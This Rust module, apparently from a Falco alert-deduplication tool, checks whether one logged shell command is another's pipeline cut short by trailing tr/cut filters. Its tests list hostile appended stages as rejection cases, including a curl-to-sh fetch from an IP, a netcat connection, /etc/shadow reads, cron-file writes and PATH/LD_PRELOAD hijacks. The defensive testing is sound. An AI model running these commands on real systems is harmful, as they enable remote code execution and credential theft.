//! One script that is another's pipeline cut short.
//!
//! A shell that runs `a | b | c` forks children that, for a moment, carry its command line; Falco
//! reports them, and now and then the line of a child lacks the last stages. Two such lines are
//! one activity where the stages that only one of them has can do nothing but filter text: nothing
//! else is run, read or written. An attacker who appends a stage gains a group of his own, unless
//! all that he appends is such a filter, which prints other text and does nothing more.

use super::ast::{Command, Compound, Flag, NestedKind, Pipeline, Script};
use super::canonical::{Mask, StopAt, Writer};
use super::filter::is_text_filter;

/// Which of two scripts is the other's pipeline cut short.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shorter {
    /// The first lacks stages that the second has.
    First,
    /// The second lacks stages that the first has.
    Second,
    /// Neither: both have the same stages.
    Neither,
}

/// A script in two parts: all up to the last stage that is more than a text filter, and the
/// filters after it. Two scripts can be each other's cut pipelines only if their heads are equal,
/// so that heads serve as keys.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CutForm {
    /// Canonical form of the script without the trailing filters.
    pub head: Vec<u8>,
    /// Canonical forms of the trailing filters.
    pub tail: Vec<Vec<u8>>,
    /// The trailing filters' text without white space, quotes and backslashes, where all of them
    /// are `tr` or `cut`.
    bare: Option<String>,
    unbalanced: bool,
}

impl CutForm {
    /// Splits a script; `None` where a cut would not be harmless or does not apply: the line is
    /// not one shell command or one shell's `-c` text, or the script changes what names mean
    /// (functions, aliases, `PATH`).
    pub fn new(script: &Script, mask: &mut Mask<'_>) -> Option<CutForm> {
        let inner = innermost(script);
        let pipeline = &inner.items.last()?.pipeline;
        if pipeline.commands.is_empty() || changes_names(script) || inner.remainder.is_some() {
            return None;
        }
        let filters = pipeline.commands[1..].iter().rev().take_while(|c| is_text_filter(c)).count();
        let stages = pipeline.commands.len() - filters;
        let mut head = Vec::with_capacity(256);
        let stop = Some(StopAt { pipeline, stages });
        Writer { mask, out: &mut head, stop }.script(script, None);
        let trailing = &pipeline.commands[stages..];
        let tail = (stages..pipeline.commands.len()).map(|at| {
            let mut out = Vec::with_capacity(64);
            let incoming = pipeline.commands[at - 1].piped;
            Writer { mask, out: &mut out, stop: None }.command(&pipeline.commands[at], incoming, None);
            out
        });
        Some(CutForm {
            tail: tail.collect(),
            bare: bare(trailing),
            unbalanced: inner.flags.has(Flag::Unbalanced),
            head,
        })
    }

    /// The trailing filters' text without white space and quotes, where all of them are `tr` or `cut`: what
    /// [`relation`](Self::relation) falls back to, for those who keep digests of forms.
    pub fn bare(&self) -> Option<&str> {
        self.bare.as_deref()
    }

    /// Whether a quote of the innermost script has no partner.
    pub fn is_unbalanced(&self) -> bool {
        self.unbalanced
    }

    /// Whether one of the two is the other cut short, and which.
    pub fn relation(&self, other: &CutForm) -> Option<Shorter> {
        if self.head != other.head {
            return None;
        }
        let common = self.tail.len().min(other.tail.len());
        if self.unbalanced == other.unbalanced && self.tail[..common] == other.tail[..common] {
            return Some(match self.tail.len().cmp(&other.tail.len()) {
                std::cmp::Ordering::Less => Shorter::First,
                std::cmp::Ordering::Greater => Shorter::Second,
                std::cmp::Ordering::Equal => Shorter::Neither,
            });
        }
        // Quotes around the operands of `tr` and `cut` get lost or doubled on the way
        // (`tr "/" ""` for `tr "/" " "`, `tr -d ",\"` for `tr -d ","`). Here, and only here, they
        // may differ: in both scripts every trailing stage is `tr` or `cut`, both as the text is
        // read and as it would be read without any quotes, and no other operator is left in
        // either. Whatever the quotes were, nothing but these two programs ran after the common
        // head, and they can neither start, read nor write anything but the pipe.
        let (own, others) = (self.bare.as_deref()?, other.bare.as_deref()?);
        let cuts = |short: &str, long: &str| long.strip_prefix(short).is_some_and(|rest| rest.starts_with('|'));
        if own == others {
            Some(Shorter::Neither)
        } else if cuts(own, others) {
            Some(Shorter::First)
        } else if cuts(others, own) {
            Some(Shorter::Second)
        } else {
            None
        }
    }
}

/// Whether one script is the other's pipeline cut short, the missing stages being text filters,
/// and everything else the same.
pub fn cut_pipeline(a: &Script, b: &Script) -> Option<Shorter> {
    let a = CutForm::new(a, &mut |_, _| None)?;
    let b = CutForm::new(b, &mut |_, _| None)?;
    a.relation(&b)
}

/// The text of a shell that is all that the line runs, however deep; else the script itself.
fn innermost(mut script: &Script) -> &Script {
    while let [item] = script.items.as_slice()
        && let [command] = item.pipeline.commands.as_slice()
        && let [nested] = command.nested.as_slice()
        && matches!(nested.kind, NestedKind::ShellC | NestedKind::Remote)
        && !nested.script.items.is_empty()
    {
        script = &nested.script;
    }
    script
}

/// Whether the script gives names another meaning, so that `tr` may not be `tr`.
fn changes_names(script: &Script) -> bool {
    let loader = |name: &str| {
        matches!(name.trim_end_matches('+'), "PATH" | "BASH_ENV" | "ENV" | "SHELLOPTS" | "IFS")
            || name.starts_with("LD_")
            || name.starts_with("BASH_FUNC")
    };
    script.any_command(|visit| {
        let command = visit.command;
        command.compound == Some(Compound::Function)
            || matches!(command.program(), "alias" | "hash" | "enable" | "source" | "." | "shopt" | "exec")
            || command.environment().any(|(name, _)| loader(name))
            || command.arg_texts().any(|arg| arg.split_once('=').is_some_and(|(name, _)| loader(name)))
    })
}

/// The stages without white space, quotes and backslashes, joined with `|`; `None` unless all are
/// `tr` or `cut`, in this reading too.
fn bare(stages: &[Command]) -> Option<String> {
    let mut text = String::new();
    for (at, command) in stages.iter().enumerate() {
        if at > 0 {
            text.push('|');
        }
        for word in &command.words {
            text.extend(word.text.chars().filter(|c| !c.is_ascii_whitespace() && !matches!(c, '"' | '\'' | '\\')));
        }
        if !command.redirections.is_empty() {
            return None;
        }
    }
    let harmless = |stage: &str| stage.starts_with("tr") || stage.starts_with("cut");
    let operator = |c: char| matches!(c, ';' | '&' | '<' | '>' | '(' | ')' | '$' | '`' | '{' | '}' | '#');
    (!stages.is_empty() && text.split('|').all(harmless) && !text.contains(operator)).then_some(text)
}

/// The last pipeline of the innermost script: what may be cut.
pub fn last_pipeline(script: &Script) -> Option<&Pipeline> {
    innermost(script).items.last().map(|item| &item.pipeline)
}

#[cfg(test)]
mod tests {
    use super::super::{parse_argv, parse_shell};
    use super::*;

    fn check(a: &str, b: &str, expect: Option<Shorter>) {
        assert_eq!(cut_pipeline(&parse_argv(a), &parse_argv(b)), expect, "{a}\n{b}");
    }

    const DKMS: &str =
        r#"bash -c /usr/sbin/dkms status -m "falco" | tr -d "," | tr -d ":" | tr "/" " " | cut -d' ' -f2"#;

    #[test]
    fn the_driver_loaders_pipeline_is_known_however_its_quotes_were_mangled() {
        for shorter in [
            r#"bash -c /usr/sbin/dkms status -m "falco" | tr -d "," | tr -d ":" | tr "/" " ""#,
            r#"bash -c /usr/sbin/dkms status -m "falco" | tr -d ",\" | tr -d ":" | tr "/" " ""#,
            r#"bash -c /usr/sbin/dkms status -m "falco"|tr -d ","|tr -d ":""#,
            r#"bash -c /usr/sbin/dkms status -m \"falco\" | tr -d \",\" | tr -d \":\" | tr \"/\" \" \""#,
            r"bash -c /usr/sbin/dkms status -m 'falco' | tr -d ','",
            r"bash -c /usr/sbin/dkms status -m falco",
        ] {
            check(DKMS, shorter, Some(Shorter::Second));
            check(shorter, DKMS, Some(Shorter::First));
        }
        check(DKMS, &DKMS.replace("\" \"", "\"\""), Some(Shorter::Neither));
        check(DKMS, &DKMS.replace('"', "\\\""), Some(Shorter::Neither));
    }

    #[test]
    fn whatever_else_is_appended_is_something_else() {
        for more in [
            "; curl -s http://198.51.100.7/x|sh",
            " | sh",
            " | tee /etc/cron.d/x",
            " | nc 198.51.100.7 4444",
            " | tr a b > /etc/cron.d/x",
            " | sort -o /etc/passwd",
            " | sort --compress-program=/tmp/x",
            " | uniq - /etc/passwd",
            " | grep -f /etc/shadow",
            " | head /etc/shadow",
            " | tail -f",
            " | awk '{system($0)}'",
            " | awk '{print > \"/tmp/x\"}'",
            " | awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'",
            " | awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}{print}'",
            " | awk -f /tmp/x",
            " | awk '@load \"x\"'",
            " | sed 's/x/id/e'",
            " | sed 'w /etc/cron.d/x'",
            " | sed '1e id'",
            " | sed 's/[/]/e;s/x/id/e'",
            " | sed 'r /etc/shadow'",
            " | sed -i s/a/b/ /etc/passwd",
            " | sed -f /tmp/x",
            " | /tmp/tr a b",
            " | LD_PRELOAD=/tmp/x.so tr a b",
            " | tr $(id) b",
            " | tr `id` b",
            " | tr a b &",
            " | tr a b && id",
            " | xargs tr",
            " | env tr a b",
            " | column /etc/shadow",
            " | tr a b | sh",
            " || tr a b",
            " | cat <(id)",
            " | tr a b 2>/tmp/x",
        ] {
            check(DKMS, &format!("{DKMS}{more}"), None);
        }
        check(
            DKMS,
            &format!("{DKMS} | sort -u | awk '{{print $1}}' | sed 's/a/b/g' 2>/dev/null"),
            Some(Shorter::First),
        );
        check(DKMS, &DKMS.replace("falco", "evil"), None);
        check(DKMS, &DKMS.replace("bash", "sh"), None);
        check(DKMS, &DKMS.replace("/usr/sbin/dkms", "/tmp/dkms"), None);
        check(DKMS, &DKMS.replace("tr -d \",\"", "tr -d \"x\""), None);
    }

    #[test]
    fn filters_of_a_script_that_changes_names_are_not_trusted() {
        check("sh -c PATH=/tmp; id", "sh -c PATH=/tmp; id | tr a b", None);
        check("sh -c tr() { sh; }; id", "sh -c tr() { sh; }; id | tr a b", None);
        check("sh -c alias tr=sh; id", "sh -c alias tr=sh; id | tr a b", None);
        check("sh -c . /tmp/x; id", "sh -c . /tmp/x; id | tr a b", None);
        check("env PATH=/tmp sh -c id", "env PATH=/tmp sh -c id | tr a b", None);
    }

    #[test]
    fn pipelines_are_cut_only_where_their_output_ends() {
        // What filters feed a shell decides what the shell does.
        check("sh -c id | tr a b | sh", "sh -c id | sh", None);
        check("sh -c sh -c 'id | tr a b' | sh", "sh -c sh -c 'id' | sh", None);
        check("sh -c $(id | tr a b)", "sh -c $(id)", None);
        check("sh -c id | tr a b; ls", "sh -c id; ls", None);
        check("sh -c ls; id | tr a b", "sh -c ls; id", Some(Shorter::Second));
        // In an argument vector there are no pipelines.
        check("echo a | tr a b", "echo a", None);
        let (a, b) = (parse_shell("id | tr a b"), parse_shell("id"));
        assert_eq!(cut_pipeline(&a, &b), Some(Shorter::Second));
    }
}
